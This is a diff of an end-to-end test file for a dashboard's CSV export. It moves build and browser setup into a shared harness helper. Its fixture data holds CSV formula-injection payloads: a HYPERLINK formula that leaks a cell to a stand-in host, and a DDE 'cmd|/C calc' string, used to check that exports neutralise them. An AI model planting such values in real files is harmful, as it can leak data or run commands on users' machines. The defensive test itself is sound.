@@ -1,15 +1,12 @@
-import { spawnSync } from 'node:child_process';
-import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { readFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { parquetReadObjects } from 'hyparquet';
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { describe, expect, inject, it } from 'vitest';
 import { regionOf } from '../../src/datasets/lookups/regions.js';
 import { STATE_NAMES } from '../../src/datasets/lookups/states.js';
-import { expectLandmarks, launchChromium, openPage, pageUrl, screenshot, serveStatic, useSite, waitForPage, type StaticServer } from './harness.js';
+import { csvText, expectLandmarks, openPage, pageUrl, screenshot, useSite, useSiteRebuilt, waitForPage } from './harness.js';
 
 interface CacheRow {
   State: string;
@@ -256,44 +253,18 @@ describe('Equipment page', () => {
 });
 
 describe('Equipment export of hostile text', () => {
-  let work: string;
-  let browser: Browser;
-  let server: StaticServer;
   const FORMULA = '=HYPERLINK("http://x.test/?leak="&A1,"click")';
-
-  beforeAll(async () => {
-    // The demo caches, with the equipment cache rebuilt from a file whose agency and item names are formulas.
-    work = mkdtempSync(join(tmpdir(), 'dash-e2e-equipment-'));
-    cpSync(inject('cacheDir'), join(work, 'cache'), { recursive: true });
-    const folder = join(work, 'datasets', 'Military_Equipment_for_Local_Law_Enforcement');
-    mkdirSync(folder, { recursive: true });
-    const quote = (s: string): string => `"${s.replace(/"/g, '""')}"`;
-    const rows = [
+  // The demo caches, with the equipment cache rebuilt from a file whose agency and item names are formulas.
+  const rebuilt = useSiteRebuilt('equipment', {
+    'Military_Equipment_for_Local_Law_Enforcement/dod_all_states.csv': csvText('State,Agency Name,NSN,Item Name,Quantity,UI,Acquisition Value,DEMIL Code,DEMIL IC,Ship Date,Station Type', [
       ['TX', FORMULA, '1005-01-123-4567', '@SUM(1+1)*cmd|/C calc', '2', 'Each', '-5', 'D', '1', '2016-01-04 00:00:00.000', 'State'],
       ['CA', 'Plain County Sheriff', '2320-01-123-4567', '-2+3', '1', 'Each', '1200', 'C', '1', '2015-03-02 00:00:00.000', 'State'],
       ['XX', 'Nowhere PD', '2320-01-123-4567', 'TRUCK', '1', 'Each', '10', 'C', '1', '2015-03-02 00:00:00.000', 'State'],
-    ];
-    const header = 'State,Agency Name,NSN,Item Name,Quantity,UI,Acquisition Value,DEMIL Code,DEMIL IC,Ship Date,Station Type';
-    writeFileSync(join(folder, 'dod_all_states.csv'), `${[header, ...rows.map((r) => r.map(quote).join(','))].join('\n')}\n`);
-    for (const args of [['cache', '--only', 'equipment'], ['site']]) {
-      const result = spawnSync(process.execPath, [join(import.meta.dirname, '..', '..', 'bin', 'dash.js'), ...args, '--datasets', join(work, 'datasets'), '--cache', join(work, 'cache'), '--out', join(work, 'dist')], {
-        encoding: 'utf8',
-        env: { ...process.env, CI: 'true' },
-      });
-      if (result.status !== 0) throw new Error(`dash ${args.join(' ')} failed:\n${result.stderr}`);
-    }
-    browser = await launchChromium();
-    server = await serveStatic(join(work, 'dist'));
-  });
-
-  afterAll(async () => {
-    await server?.close();
-    await browser?.close();
-    rmSync(work, { recursive: true, force: true });
+    ]),
   });
 
   it('exports a formula-named agency as quoted text with a leading quote, and negative numbers as numbers', async () => {
-    const { page, errors, close } = await openPage(browser, `${server.url}equipment.html`);
+    const { page, errors, close } = await openPage(rebuilt.browser, `${rebuilt.server.url}equipment.html`);
     await waitForPage(page);
     const download = page.waitForEvent('download');
     await page.getByRole('button', { name: /^Export CSV/ }).click();
@@ -309,7 +280,7 @@ describe('Equipment export of hostile text', () => {
   });
 
   it("lists the build's input warning (a State that is no state) on the Status page, with its line", async () => {
-    const { page, errors, close } = await openPage(browser, `${server.url}status.html`);
+    const { page, errors, close } = await openPage(rebuilt.browser, `${rebuilt.server.url}status.html`);
     await waitForPage(page);
     const list = page.locator('.warning-list li');
     expect(await list.allTextContents()).toEqual([
